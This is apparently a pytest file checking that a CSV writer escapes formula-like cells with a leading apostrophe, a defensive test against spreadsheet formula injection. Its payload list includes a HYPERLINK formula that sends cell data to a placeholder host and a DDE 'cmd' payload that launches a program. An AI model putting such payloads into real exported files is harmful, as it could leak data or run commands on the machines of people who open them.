"""Cells of CSV files are data for a spreadsheet, whatever text they hold."""

from __future__ import annotations

import csv

import pytest

from smart_train.core.spreadsheet import write_csv

FORMULAS = [
    "=1+1", "+1+1", "-2+3", "@SUM(A1)", '=HYPERLINK("https://host.example/?"&A1)', "  =1", "\t=1", "\r=1", "\n=1",
    "\uff1d1+1", "\uff20SUM(A1)", "=cmd|' /C calc'!A0",
]  # fmt: skip


def written(path, *cells):
    write_csv(path, ["a"], [cells])
    with path.open(encoding="utf-8", newline="") as stream:
        return next(reversed(list(csv.reader(stream))))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_a_text(tmp_path, text):
    assert written(tmp_path / "a.csv", text, "b") == ["'" + text, "b"]
    write_csv(tmp_path / "b.csv", [text], [])
    assert next(csv.reader((tmp_path / "b.csv").open(encoding="utf-8", newline=""))) == ["'" + text]


def test_numbers_and_plain_texts_stay(tmp_path):
    row = written(tmp_path / "a.csv", -0.5, 3, None, "a=b", "what is 1+1", "'quoted'", 'a, "b"')
    assert row == ["-0.5", "3", "", "a=b", "what is 1+1", "'quoted'", 'a, "b"']
